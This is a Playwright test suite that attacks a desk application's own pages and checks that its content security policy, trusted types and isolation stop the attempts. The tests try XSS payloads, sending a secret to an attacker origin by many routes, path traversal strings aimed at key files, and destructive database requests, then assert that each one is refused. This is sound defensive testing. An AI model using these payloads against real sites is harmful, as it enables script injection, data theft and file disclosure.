import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { chromium } from '@playwright/test'
import { windowSwitches } from '#main/browser/switches.ts'
import { findChromium } from '#build/start/chromium.ts'
import { type Attacked, expect, signedIn, test } from './attacked.ts'
import { signIn } from './desk.ts'

/** Should a stranger's script run in one of our pages all the same: what it can do then. */

test('a script in a page makes no code from text', async ({ attacked }) => {
  const { page, seen } = await signedIn(attacked, 'welcome', 'An')
  const outcome = await page.evaluate(async (elsewhere) => {
    // The call of a test itself stands outside the policy; what comes after its first turn does not.
    await new Promise((later) => setTimeout(later))
    const attempt = (work: () => unknown): string => {
      try {
        work()
        return 'done'
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown'
      }
    }
    const code = 'window.pwned = 1'
    const added = (name: string, set: (element: Element) => void): string =>
      attempt(() => {
        const element = document.createElement(name)
        set(element)
        document.body.append(element)
      })
    const results = {
      eval: attempt(() => Reflect.apply(globalThis.eval, undefined, [code])),
      function: attempt(() => Reflect.construct(Function, [code])),
      timer: attempt(() => Reflect.apply(setTimeout, window, [code, 0])),
      markup: attempt(() => (document.body.innerHTML += '<img src=x onerror="window.pwned = 1">')),
      before: attempt(() => document.body.insertAdjacentHTML('beforeend', '<svg onload="window.pwned = 1">')),
      parser: attempt(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
      written: attempt(() =>
        Reflect.apply(Reflect.get(document, 'write') as never, document, [`<script>${code}</script>`]),
      ),
      text: added('script', (script) => (script.textContent = code)),
      source: added('script', (script) => script.setAttribute('src', `${elsewhere}/script.js`)),
      data: added('script', (script) => script.setAttribute('src', `data:text/javascript,${code}`)),
      frame: added('iframe', (frame) => frame.setAttribute('srcdoc', `<script>parent.${code}</script>`)),
      handler: added('img', (image) => image.setAttribute('onerror', code)),
      blob: attempt(() => new Worker(URL.createObjectURL(new Blob([code])))),
    }
    const link = document.createElement('a')
    link.href = `javascript:${code}`
    document.body.append(link)
    link.click()
    const imported = await import(/* @vite-ignore */ `data:text/javascript,${code}`).then(
      () => 'done',
      () => 'refused',
    )
    await new Promise((later) => setTimeout(later, 500))
    return { ...results, imported, pwned: String(Reflect.get(window, 'pwned')), at: location.pathname }
  }, attacked.attacker.origin)
  expect(outcome).toEqual({
    eval: 'EvalError',
    function: 'EvalError',
    timer: 'TypeError',
    markup: 'TypeError',
    before: 'TypeError',
    parser: 'TypeError',
    written: 'TypeError',
    text: 'TypeError',
    source: 'TypeError',
    data: 'TypeError',
    frame: 'TypeError',
    handler: 'TypeError',
    blob: 'TypeError',
    imported: 'refused',
    pwned: 'undefined',
    at: '/welcome',
  })
  expect(seen.every((what) => what.startsWith('stopped '))).toBe(true)
  expect(attacked.attacker.asked).toEqual([])
})

test('a script in a page sends nothing to another origin', async ({ attacked }) => {
  const { page } = await signedIn(attacked, 'welcome', 'An')
  const refused = await page.evaluate(async (elsewhere) => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
    const secret = `${elsewhere}/?secret=1`
    const add = (name: string, attributes: Record<string, string>, text = ''): void => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) {
        try {
          element.setAttribute(key, value)
        } catch {
          // Trusted types refuse the addresses of what runs.
        }
      }
      if (text !== '') element.textContent = text
      document.body.append(element)
    }
    await fetch(secret).catch(() => undefined)
    await fetch(secret, { mode: 'no-cors', keepalive: true }).catch(() => undefined)
    navigator.sendBeacon(secret)
    new EventSource(secret).close()
    for (const open of [
      () => new WebSocket(secret.replace('http', 'ws')),
      () => new XMLHttpRequest().open('GET', secret),
    ]) {
      try {
        open()
      } catch {
        // Some throw, some only fail.
      }
    }
    add('img', { src: secret })
    add('audio', { src: secret })
    add('iframe', { src: secret })
    add('object', { data: secret })
    add('embed', { src: secret })
    add('script', { src: secret })
    for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) {
      add('link', { rel, href: secret, as: 'image' })
    }
    add('style', {}, `@import url(${secret}); body { background: url(${secret}) }`)
    document.body.style.backgroundImage = `url(${secret})`
    await new FontFace('x', `url(${secret})`).load().catch(() => undefined)
    add('form', { action: elsewhere, method: 'post', id: 'leak' })
    const form = document.querySelector<HTMLFormElement>('#leak')
    form?.submit()
    await new Promise((later) => setTimeout(later, 1_000))
    return [...new Set(refused)].sort()
  }, attacked.attacker.origin)
  expect(attacked.attacker.asked).toEqual([])
  expect(refused).toEqual(
    expect.arrayContaining([
      'connect-src',
      'font-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'style-src-elem',
    ]),
  )
  expect(new URL(page.url()).pathname).toBe('/welcome')
})

test('a script in a page leaves no worker behind that would outlive it', async ({ attacked }) => {
  const { page } = await signedIn(attacked, 'welcome', 'An')
  const outcome = await page.evaluate(async () => {
    const refused = async (work: () => unknown): Promise<boolean> => {
      try {
        await work()
        return false
      } catch {
        return true
      }
    }
    const own = document.querySelector('script')?.src ?? ''
    return {
      service: await refused(() => navigator.serviceWorker.register(own)),
      central: await refused(() => navigator.serviceWorker.register('/central/balie_catalogue/product%3Apas')),
      worker: await refused(() => new Worker(own)),
      shared: await refused(() => new SharedWorker(own)),
      registered: (await navigator.serviceWorker.getRegistrations()).length,
    }
  })
  expect(outcome).toEqual({ service: true, central: true, worker: true, shared: true, registered: 0 })
})

test('a script in a page gets no permission', async ({ attacked }) => {
  const { page } = await signedIn(attacked, 'welcome', 'An')
  const outcome = await page.evaluate(async () => {
    const errorOf = (work: Promise<unknown>): Promise<string> =>
      work.then(
        () => 'granted',
        (error: unknown) => (error instanceof Error ? error.name : 'refused'),
      )
    const place = new Promise<string>((done) => {
      navigator.geolocation.getCurrentPosition(
        () => done('granted'),
        () => done('refused'),
      )
    })
    return {
      camera: await errorOf(navigator.mediaDevices.getUserMedia({ video: true })),
      microphone: await errorOf(navigator.mediaDevices.getUserMedia({ audio: true })),
      screen: await errorOf(navigator.mediaDevices.getDisplayMedia()),
      place: await place,
      clipboard: await errorOf(navigator.clipboard.readText()),
    }
  })
  expect(Object.values(outcome)).not.toContain('granted')
})

test('a script in a page reads no file of the machine', async ({ attacked }) => {
  const { page } = await signedIn(attacked, 'welcome', 'An')
  const folder = attacked.demo.folderOf('welcome')
  const secrets = await Promise.all(
    ['session.key', 'replica.key', 'station.json'].map((name) => readFile(join(folder, name), 'utf8')),
  )
  const texts = await page.evaluate(async (place) => {
    const ways = [
      '..',
      '%2e%2e',
      '%2E%2E',
      '..%2f',
      '%2e%2e%2f',
      '..\\',
      '..%5c',
      '%252e%252e',
      '....//',
      '.;/..',
      '%c0%ae%c0%ae',
    ]
    const files = ['session.key', 'replica.key', 'station.json', 'log/balie.log']
    const addresses = files.flatMap((file) => [
      `/${file}`,
      `/${place}/${file}`,
      `//${place}/${file}`,
      `/assets/${file}`,
      `file://${place}/${file}`,
      `view-source:file://${place}/${file}`,
      ...ways.flatMap((way) => [1, 2, 6].map((times) => `/assets/${`${way}/`.repeat(times)}${file}`)),
      ...ways.map((way) => `/central/${way}/${way}/${file}`),
    ])
    const read: string[] = []
    for (const address of addresses) {
      const text = await fetch(address).then(
        (response) => response.text(),
        () => '',
      )
      read.push(text)
    }
    return read
  }, folder)
  expect(texts.length).toBeGreaterThan(150)
  for (const secret of secrets) expect(texts.some((text) => text.includes(secret.trim()))).toBe(false)
  for (const text of texts.filter((one) => one !== '')) expect(text).toMatch(/^<!doctype html>|"error":/)
})

test('a script in a page reaches no channel but those of the contract, and of the database its own documents only', async ({
  attacked,
}) => {
  const { page } = await signedIn(attacked, 'welcome', 'An')
  const outcome = await page.evaluate(async () => {
    const used = document.querySelector('meta[name="bridge-token"]')?.getAttribute('content') ?? ''
    const open = (token: string): Promise<WebSocket | undefined> =>
      new Promise((done) => {
        const socket = new WebSocket(`ws://${location.host}/bridge?token=${token}`)
        socket.addEventListener('open', () => done(socket))
        socket.addEventListener('error', () => done(undefined))
      })
    const fresh: unknown = await (await fetch('/bridge-token', { method: 'POST' })).json()
    const token = typeof fresh === 'object' && fresh !== null && 'token' in fresh ? String(fresh.token) : ''
    const socket = await open(token)
    const ask = (channel: string): Promise<string> =>
      new Promise((done) => {
        socket?.addEventListener('message', ({ data }) => done(String(data)), { once: true })
        socket?.send(JSON.stringify({ id: 1, channel, input: {} }))
      })
    const answers: string[] = []
    for (const channel of [
      'openTheSafe',
      '__proto__',
      'constructor',
      'toString',
      'describeStation.then',
      '',
      'fs.readFile',
    ]) {
      answers.push(await ask(channel))
    }
    const central = (method: string, path: string): Promise<number> =>
      fetch(`/central${path}`, { method }).then(({ status }) => status)
    return {
      global: typeof window.balie,
      used: (await open(used)) === undefined,
      none: (await open('')) === undefined,
      again: (await open(token)) === undefined,
      answers,
      central: [
        await central('GET', '/_users/_all_docs'),
        await central('GET', '/_all_dbs'),
        await central('DELETE', '/balie_gm'),
        await central('PUT', '/balie_gm/_security'),
        await central('PUT', '/balie_gm/%5fdesign%2fx'),
        await central('POST', '/_replicate'),
      ],
    }
  })
  expect(outcome).toMatchObject({ global: 'undefined', used: true, none: true, again: true })
  expect(outcome.answers).toHaveLength(7)
  for (const answer of outcome.answers) expect(answer).toContain('badRequest')
  expect(outcome.central).toEqual([403, 403, 403, 403, 403, 403])
})

/** A server that stands for the rest of the world, at another address of this machine. */
const startWorld = async () => {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(`${request.headers.host ?? ''}${request.url ?? ''}`)
    response.writeHead(200, { 'content-type': 'text/html' }).end('<title>world</title>')
  })
  await new Promise<void>((ready) => server.listen(0, '0.0.0.0', ready))
  const address = server.address()
  return { asked, server, port: typeof address === 'object' && address !== null ? address.port : 0 }
}

test('the window of a station has no way out of the machine: no link, no new window, no refresh, no call', async ({
  attacked,
}, testInfo) => {
  const world = await startWorld()
  const profile = testInfo.outputPath('profile')
  const executablePath = findChromium()
  const context = await chromium.launchPersistentContext(profile, {
    ...(executablePath === undefined ? {} : { executablePath }),
    args: windowSwitches(profile, 'window').filter((one) => !one.startsWith('--user-data-dir')),
  })
  try {
    for (const host of ['localhost', '127.0.0.2', 'attacker.example', '[::1]']) {
      const page = await context.newPage()
      await page.goto(attacked.demo.screens['welcome']?.url ?? '')
      await expect(page.getByRole('combobox').first()).toBeVisible()
      await page
        .evaluate(
          async (elsewhere) => {
            open(elsewhere)
            open(elsewhere, '_blank', 'noopener')
            for (const rel of ['dns-prefetch', 'preconnect', 'prerender']) {
              const hint = document.createElement('link')
              Object.assign(hint, { rel, href: elsewhere })
              document.head.append(hint)
            }
            const refresh = document.createElement('meta')
            refresh.httpEquiv = 'refresh'
            refresh.content = `0;url=${elsewhere}/refresh`
            document.head.append(refresh)
            await new Promise((later) => setTimeout(later, 700))
          },
          `http://${host}:${String(world.port)}`,
        )
        .catch(() => undefined)
      await page
        .evaluate(
          (elsewhere) => {
            location.href = `${elsewhere}/location`
          },
          `http://${host}:${String(world.port)}`,
        )
        .catch(() => undefined)
      await page.waitForTimeout(700)
      await page.close()
    }
    const page = await context.newPage()
    await page.goto(attacked.demo.screens['welcome']?.url ?? '')
    const candidates = await page.evaluate(async (port) => {
      const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.2:${String(port)}` }] })
      call.createDataChannel('leak')
      const found: string[] = []
      call.onicecandidate = ({ candidate }) => {
        if (candidate !== null && candidate.candidate !== '') found.push(candidate.candidate)
      }
      await call.setLocalDescription(await call.createOffer())
      await new Promise((later) => setTimeout(later, 1_000))
      return found
    }, world.port)
    expect(candidates).toEqual([])
    expect(world.asked).toEqual([])
    await signIn(page, 'An')
  } finally {
    await context.close()
    world.server.close()
  }
})

test('a page of another port, which the browser takes for the same site, gets nothing of a station', async ({
  attacked,
}) => {
  const { demo, attacker } = attacked
  const { page } = await attacked.open('welcome')
  const station = new URL(page.url()).origin
  const other = await page.context().newPage()
  await other.goto(attacker.origin)
  const outcome = await other.evaluate(async (target) => {
    const failed = (work: Promise<unknown>): Promise<boolean> =>
      work.then(
        () => false,
        () => true,
      )
    const loads = (name: string, source: string): Promise<string> =>
      new Promise((done) => {
        const element = document.createElement(name)
        element.addEventListener('load', () => done('loaded'))
        element.addEventListener('error', () => done('refused'))
        element.setAttribute('src', source)
        document.body.append(element)
      })
    const socket = (address: string): Promise<boolean> =>
      new Promise((done) => {
        const made = new WebSocket(address)
        made.addEventListener('open', () => done(false))
        made.addEventListener('error', () => done(true))
      })
    const frame = document.createElement('iframe')
    frame.src = `${target}/welcome`
    document.body.append(frame)
    await new Promise((later) => frame.addEventListener('load', later, { once: true }))
    const write = { method: 'PUT', body: '{"stolen":true}' }
    for (const path of ['/central/balie_catalogue/stolen', '/bridge-token']) {
      await fetch(`${target}${path}`, { ...write, mode: 'no-cors', method: 'POST', credentials: 'include' }).catch(
        () => undefined,
      )
    }
    return {
      read: await failed(fetch(`${target}/welcome`, { credentials: 'include' })),
      written: await failed(fetch(`${target}/central/balie_catalogue/stolen`, { ...write, credentials: 'include' })),
      token: await failed(fetch(`${target}/bridge-token`, { method: 'POST', credentials: 'include' })),
      script: await loads('script', `${target}/central/balie_catalogue/_changes?limit=1`),
      image: await loads('img', `${target}/favicon.svg`),
      bridge: await socket(`${target.replace('http', 'ws')}/bridge?token=guess`),
      framed: frame.contentDocument === null ? 'other origin' : frame.contentDocument.title,
    }
  }, station)
  expect(outcome).toEqual({
    read: true,
    written: true,
    token: true,
    script: 'refused',
    image: 'refused',
    bridge: true,
    framed: 'other origin',
  })
  // A window that it opens is not in its hands, and shows nobody's screen.
  const opened = other.context().waitForEvent('page')
  await other.evaluate((target) => void Object.assign(window, { opened: window.open(`${target}/welcome`) }), station)
  const popup = await opened
  await popup.waitForLoadState()
  expect(await popup.getByRole('combobox').count()).toBe(0)
  expect(
    await other.evaluate(() => {
      const popped: unknown = Reflect.get(window, 'opened')
      return popped === null || (typeof popped === 'object' && Reflect.get(popped, 'closed') === true)
    }),
  ).toBe(true)
  await expectNothingStored(demo)
})

const expectNothingStored = async ({ admin }: Attacked['demo']): Promise<void> => {
  const headers = { authorization: `Basic ${Buffer.from(`${admin.name}:${admin.password}`).toString('base64')}` }
  const { status } = await fetch(`${admin.url}/balie_catalogue/stolen`, { headers })
  expect(status).toBe(404)
}
